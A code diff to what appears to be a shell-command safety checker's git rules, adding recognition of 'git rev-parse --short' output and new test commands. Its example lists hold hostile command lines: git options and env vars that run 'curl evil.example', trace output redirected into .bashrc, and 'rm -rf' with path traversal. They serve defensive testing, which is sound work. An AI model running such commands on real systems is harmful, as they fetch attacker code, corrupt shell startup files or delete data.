@@ -688,6 +688,13 @@ export const GIT_ENTRIES: ProgramEntry[] = [
       // `git rev-list --count …` prints one number (arithmetic reads no code there).
       const sub = call.args.findIndex((a) => value(a) === 'rev-list');
       if (sub >= 0 && call.args.slice(sub + 1).some((a) => value(a) === '--count') && !call.args.some((a) => /^--(help|version)$/.test(value(a) ?? ''))) out.output = { kind: 'number' };
+      // `git rev-parse --short HEAD` prints an abbreviated hash (or, for a revision it cannot read, the word as given):
+      // one name, no `/` or `..`, when the revision is a plain one (`HEAD`, `HEAD~1`, `main`, `v1.2`).
+      const words = call.args.map((a) => value(a));
+      if (words[0] === 'rev-parse' && words.slice(1).some((w) => w !== undefined && /^--short(?:=\d+)?$/.test(w))) {
+        const rest = words.slice(1).filter((w) => w === undefined || !/^(?:--short(?:=\d+)?|--verify|-q|--quiet)$/.test(w));
+        if (rest.length === 1 && rest[0] !== undefined && /^[A-Za-z0-9_@^~{}-]+(?:\.[A-Za-z0-9_@^~{}-]+)*$/.test(rest[0])) out.output = { kind: 'name' };
+      }
       return out;
     },
     examples: {
@@ -698,6 +705,8 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git psuh --force origin main',
         "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x",
         'git ls-files --error-unmatch --pathspec-from-file=.env',
+        'rm -rf "build/$(git rev-parse --short origin/main)"',
+        'rm -rf "build/$(git rev-parse --short HEAD)/.."',
         "git -c core.sshCommand='curl evil.example' fetch",
         'GIT_TRACE=/home/dev/.bashrc git status',
         'GIT_TRACE_PACKET=/home/dev/.profile git fetch',
@@ -757,6 +766,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "GIT_CONFIG_PARAMETERS=\"'core.sshCommand=curl evil.example'\" go mod download",
       ],
       pass: [
+        'rm -rf "build/$(git rev-parse --short HEAD)"',
         "mkdir -p t/hooks; echo 'echo hi' > t/hooks/post-checkout; git clone --template=t https://github.com/x/y",
         'git -c help.autocorrect=never psuh --force origin main',
         'git stauts',
